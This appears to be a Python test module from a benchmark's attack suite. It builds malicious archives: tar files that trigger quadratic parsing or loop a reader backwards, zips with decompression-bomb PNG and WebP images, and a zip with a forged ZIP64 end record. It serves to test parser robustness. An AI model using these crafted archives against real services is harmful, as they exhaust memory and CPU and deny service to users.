"""Archives of a few kilobytes that cost a reader minutes or gigabytes."""

from __future__ import annotations

import io
import struct
import tarfile
import zlib

from PIL import Image

from benchmarks.attacks.target import small_pictures, zipped

SIDE = 7000
CANVAS = 16_383


def tar_of_digits(count: int = 400_000) -> bytes:
    """Return a tar whose extended header is one run of digits, which a pattern searches in quadratic time."""
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        header = tarfile.TarInfo("header")
        header.type, header.size = tarfile.XHDTYPE, count
        archive.addfile(header, io.BytesIO(b"1" * count))
        archive.addfile(tarfile.TarInfo("0.png"))
    return made.getvalue()


def tar_that_goes_back(members: int = 160) -> bytes:
    """Return a tar whose last member has a negative size, which sends a reader back to the first."""
    made = io.BytesIO()
    for n in range(members):
        made.write(tarfile.TarInfo(f"{n}.png").tobuf(tarfile.GNU_FORMAT))
    last = tarfile.TarInfo("last.png")
    last.size = -512 * (members + 1)
    made.write(last.tobuf(tarfile.GNU_FORMAT))
    return made.getvalue() + bytes(1024)


def zip_of_a_large_picture() -> bytes:
    """Return a zip with one PNG of 49 million pixels with alpha, all of them empty."""
    rows = zlib.compressobj(9)
    row = bytes(1 + 4 * SIDE)
    packed = b"".join(rows.compress(row) for _ in range(SIDE)) + rows.flush()
    header = struct.pack(">LLBBBBB", SIDE, SIDE, 8, 6, 0, 0, 0)
    chunks = [(b"IHDR", header), (b"IDAT", packed), (b"IEND", b"")]
    png = b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data)) for kind, data in chunks
    )
    return zipped({f"{n}.png": png for n in range(4)})


def zip_of_a_large_animation() -> bytes:
    """Return a zip with an animated WebP of 150 bytes, whose canvas has 268 million pixels."""
    small = io.BytesIO()
    Image.new("RGBA", (1, 1)).save(small, "WEBP", lossless=True)
    at = small.getvalue().index(b"VP8L")
    frame = small.getvalue()[at:]
    canvas = (CANVAS - 1).to_bytes(3, "little")
    chunks = [
        (b"VP8X", bytes([0x12, 0, 0, 0]) + canvas * 2),
        (b"ANIM", bytes(6)),
        (b"ANMF", bytes(6) + bytes(6) + bytes([100, 0, 0, 0]) + frame),
    ]
    body = b"WEBP" + b"".join(
        kind + struct.pack("<L", len(data)) + data + bytes(len(data) % 2) for kind, data in chunks
    )
    return zipped({"0.webp": b"RIFF" + struct.pack("<L", len(body)) + body})


def zip_with_a_false_mark() -> bytes:
    """Return a zip whose comment looks like the end of a directory of four thousand million entries."""
    mark = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 1 << 32, 1 << 32, 1 << 31, 0)
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, 0, 1)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return small_pictures() + mark + locator + end
